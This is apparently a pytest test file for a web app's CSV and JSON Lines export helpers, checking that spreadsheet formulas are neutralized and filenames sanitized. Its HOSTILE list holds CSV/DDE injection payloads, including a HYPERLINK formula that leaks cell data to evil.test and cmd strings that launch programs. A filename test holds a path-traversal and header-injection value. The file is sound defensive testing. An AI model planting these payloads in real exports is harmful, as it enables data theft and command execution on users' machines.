"""CSV and JSON Lines exports: spreadsheet formulas neutralized, filenames safe, streamed."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

import pytest

from common.exports import csv_response, csv_safe, jsonl_response, safe_filename

HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def _body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


class TestCsvSafe:
    @pytest.mark.parametrize("cell", HOSTILE)
    def test_prefixes_formula_text_with_an_apostrophe(self, cell):
        assert csv_safe(cell) == "'" + cell

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            (-42, "-42"),
            (0, "0"),
            (Decimal("-1.50"), "-1.50"),
            (-0.25, "-0.25"),
            (True, "true"),
            (None, ""),
            (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05+00:00"),
        ],
    )
    def test_keeps_real_numbers_and_renders_plain_values(self, value, expected):
        assert csv_safe(value) == expected

    @pytest.mark.parametrize("cell", ["plain", "a=b", "1-2", " =not first", ""])
    def test_leaves_harmless_text_alone(self, cell):
        assert csv_safe(cell) == cell

    def test_treats_numeric_looking_text_as_text(self):
        # A string "-1" may be anything a user typed; only real numbers pass.
        assert csv_safe("-1") == "'-1"

    def test_neutralizes_non_finite_floats_as_text(self):
        assert csv_safe(float("-inf")) == "'-inf"


class TestCsvResponse:
    def test_streams_an_attachment_whose_cells_cannot_run(self):
        rows = [[cell, -7, Decimal("2.5")] for cell in HOSTILE]
        response = csv_response(filename="audit log.csv", header=["text", "n", "amount"], rows=iter(rows))
        assert response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="audit_log.csv"'
        parsed = list(csv.reader(io.StringIO(_body(response), newline="")))
        assert parsed[0] == ["text", "n", "amount"]
        assert len(parsed) == len(HOSTILE) + 1
        for original, row in zip(HOSTILE, parsed[1:], strict=True):
            assert row == ["'" + original, "-7", "2.5"]
            assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))

    def test_neutralizes_a_hostile_header(self):
        response = csv_response(filename="x", header=["=1+1"], rows=[])
        assert _body(response).splitlines()[0] == "'=1+1"
        assert response["Content-Disposition"] == 'attachment; filename="x.csv"'

    def test_quotes_embedded_separators_and_newlines(self):
        response = csv_response(filename="x.csv", header=["a"], rows=[['say "hi",\nthen go']])
        assert list(csv.reader(io.StringIO(_body(response), newline="")))[1] == ['say "hi",\nthen go']


class TestSafeFilename:
    @pytest.mark.parametrize(
        ("name", "expected"),
        [
            ('../../etc/passwd"\r\nX-Evil: 1', "etc_passwd_X-Evil_1"),
            ("..", "export"),
            ("", "export"),
            ("résumé 2026.csv", "r_sum_2026.csv"),
        ],
    )
    def test_strips_paths_quotes_and_header_breaks(self, name, expected):
        assert safe_filename(name) == expected


class TestJsonlResponse:
    def test_streams_one_object_a_line(self):
        when = datetime(2026, 1, 2, tzinfo=UTC)
        objects = [
            {"id": 1, "at": when, "amount": Decimal("1.10"), "uuid": UUID(int=1), "text": "=1+1"},
            {"id": 2, "nested": {"a": [1, 2]}},
        ]
        response = jsonl_response(filename="events", objects=iter(objects))
        assert response["Content-Disposition"] == 'attachment; filename="events.jsonl"'
        lines = _body(response).splitlines()
        assert [json.loads(line) for line in lines] == [
            {
                "id": 1,
                "at": "2026-01-02T00:00:00+00:00",
                "amount": "1.10",
                "uuid": "00000000-0000-0000-0000-000000000001",
                "text": "=1+1",
            },
            {"id": 2, "nested": {"a": [1, 2]}},
        ]
